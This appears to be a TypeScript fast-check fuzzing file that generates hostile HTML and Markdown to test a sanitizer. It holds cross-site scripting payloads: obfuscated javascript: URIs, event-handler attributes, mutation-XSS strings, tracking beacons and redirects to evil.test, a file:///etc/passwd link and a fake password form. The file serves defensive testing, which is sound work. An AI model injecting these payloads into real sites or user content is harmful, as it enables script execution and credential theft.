import fc from 'fast-check'

const from = fc.constantFrom

/** What a payload calls when it is run. The published ones call `alert`. */
const RUN = 'ran()'

const addresses = from(
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61;vascript:${RUN}`,
  `javascript%3A${RUN}`,
  `javascript://evil.test/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  'data:image/png;base64,iVBORw0KGgo=',
  'blob:https://evil.test/1',
  'file:///etc/passwd',
  'filesystem:https://evil.test/x',
  'view-source:https://evil.test',
  'https://evil.test/track.png',
  'http://evil.test/track.gif?q=1&amp;r=2',
  '//evil.test/track.png',
  '/\\evil.test',
  'https://bank.test@evil.test/',
  'https://own.test/picture.png',
  'https://own.test/picture.svg',
  'https://own.test.evil.test/x.png',
  'mailto:a@evil.test?body=<script>',
  '#x',
  '?x',
  '',
)
const handlers = from(
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'ONERROR',
  'on\u0000error',
)
const quotes = from('"', "'", '', '`')
const tags = from(
  ...['a', 'b', 'p', 'div', 'span', 'img', 'table', 'td', 'li', 'pre', 'code', 'h1', 'blockquote', 'sub', 'IMG', 'A'],
  ...['script', 'style', 'svg', 'math', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select', 'template'],
  ...[
    'link',
    'meta',
    'base',
    'video',
    'audio',
    'source',
    'details',
    'marquee',
    'noscript',
    'xmp',
    'title',
    'frameset',
    'x-y',
    'dialog',
  ],
)
const attributes = fc.oneof(
  fc.tuple(handlers, quotes).map(([name, q]) => `${name}=${q}${RUN}${q}`),
  fc
    .tuple(
      from('href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'cite', 'ping'),
      addresses,
      quotes,
    )
    .map(([name, url, q]) => `${name}=${q}${url}${q}`),
  fc
    .tuple(from('id', 'name', 'class', 'is', 'slot', 'part'), from('body', 'cookie', 'attributes', 'rich-image'))
    .map(([k, v]) => `${k}=${v}`),
  from(
    'style="position:fixed;inset:0;background:url(https://evil.test/s)"',
    `srcdoc="<script>parent.${RUN}</script>"`,
    'autofocus tabindex=1 contenteditable',
    'http-equiv=refresh content="0;url=https://evil.test/"',
    'rel=stylesheet href=https://evil.test/s.css',
    'type=password autocomplete=current-password',
    'popover dir=rtl lang=x data-x=y aria-label=z',
    'target=_top download',
    'shadowrootmode=open',
    'alt="![x](javascript:ran())"',
  ),
)
/** Texts that a parser reads one way the first time and another way the second. */
const mutants = from(
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  `<table><td background="https://evil.test/t"><style>@import"https://evil.test/s";</style>`,
  `<b><style>*{background:url(https://evil.test/s)}</style></b>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<p><a href="https://own.test"><a href="javascript:${RUN}"><img src=x onerror=${RUN}></a></a>`,
  `<div>\ue0000\ue001&#xe000;1&#xe001;&#xe000;0&#xe001;&#xe000;0&#xe001;</div>`,
  `<div title="`,
  `<a href="https://own.test`,
)

const html = fc
  .tuple(
    tags,
    fc.array(attributes, { maxLength: 3 }),
    from(' ', '/', '\n', '\t', ' x '),
    from('>', '/>', ''),
    from('x', '', RUN, '**y**', '&lt;'),
  )
  .map(([tag, list, gap, end, inner]) => `<${[tag, ...list].join(gap)}${end}${inner}${end === '>' ? `</${tag}>` : ''}`)

const markdown = fc
  .tuple(
    addresses,
    from('x', '**x**', 'https://bank.test', '\u202etset.knab', '![y](https://evil.test/y.png)', '<b onclick=ran()>z'),
  )
  .chain(([url, label]) =>
    from(
      `[${label}](${url})`,
      `[${label}](<${url}>)`,
      `![${label}](${url})`,
      `[![${label}](${url})](${url})`,
      `<${url}>`,
      url,
      `[${label}][r]\n\n[r]: ${url}`,
      `![${label}][r]\n\n[r]: <${url}> "t"`,
      `[${label}](${url} "\\"onmouseover=${RUN} ")`,
      `[a](https://own.test/"onclick="${RUN})`,
      `\`\`\`"onclick="${RUN}\n${url}\n\`\`\``,
    ),
  )

const piece = fc.oneof({ weight: 4, arbitrary: html }, { weight: 3, arbitrary: markdown }, { weight: 2, arbitrary: mutants })

const wrap: fc.Arbitrary<(inner: string) => string> = from(
  (inner: string) => inner,
  (inner: string) => `> ${inner}`,
  (inner: string) => `- ${inner}`,
  (inner: string) => `**${inner}**`,
  (inner: string) => `# ${inner}`,
  (inner: string) => `|a|b|\n|-|-|\n|${inner.replaceAll('\n', ' ')}|c|`,
  (inner: string) => `<div>\n\n${inner}\n\n</div>`,
  (inner: string) => `<a href="https://own.test">${inner}</a>`,
  (inner: string) => `<pre>${inner}</pre>`,
  (inner: string) => `[${inner}](https://own.test)`,
  (inner: string) => `Hello <b>${inner}`,
)

/** A message from somebody who means harm. */
export const hostile: fc.Arbitrary<string> = fc
  .tuple(fc.array(piece, { minLength: 1, maxLength: 3 }), wrap, from('', ' ', '\n', '\n\n'), fc.option(fc.nat(200), { freq: 6 }))
  .map(([pieces, around, gap, cut]) => around(pieces.join(gap)).slice(0, cut ?? undefined))

/** Payloads that do run wherever HTML is believed: what shows that the test sees a script that runs. */
export const live = [
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}></svg>`,
  `<b onclick=${RUN}>x</b>`,
  `<a href="javascript:${RUN}">x</a>`,
  '<form action="https://evil.test"><input type=password></form>',
  '<img src="https://evil.test/track.png">',
]
